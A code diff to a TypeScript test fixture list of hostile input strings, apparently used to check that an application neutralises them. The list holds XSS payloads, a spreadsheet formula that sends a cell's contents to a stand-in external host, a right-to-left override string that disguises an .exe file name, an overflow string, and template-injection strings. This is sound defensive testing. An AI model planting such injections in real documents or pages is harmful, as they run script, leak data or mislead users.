@@ -9,7 +9,7 @@ export const HOSTILE_TEXTS = [
   `<img src=x onerror="globalThis.${MARK}=2">`,
   `"><svg onload=globalThis.${MARK}=3>`,
   '=HYPERLINK("https://elsewhere.example/?"&A1,"open")',
-  '\u202Egpj.exe\u202C \u2067right to left\u2069 \u0000'.replace('\u0000', '\u200B'),
+  '\u202Egpj.exe\u202C \u2067right to left\u2069 \u200B',
   'W'.repeat(4000),
   `{{count}} $t(frame:home) \${globalThis.${MARK}=7} javascript:globalThis.${MARK}=7`,
 ] as const
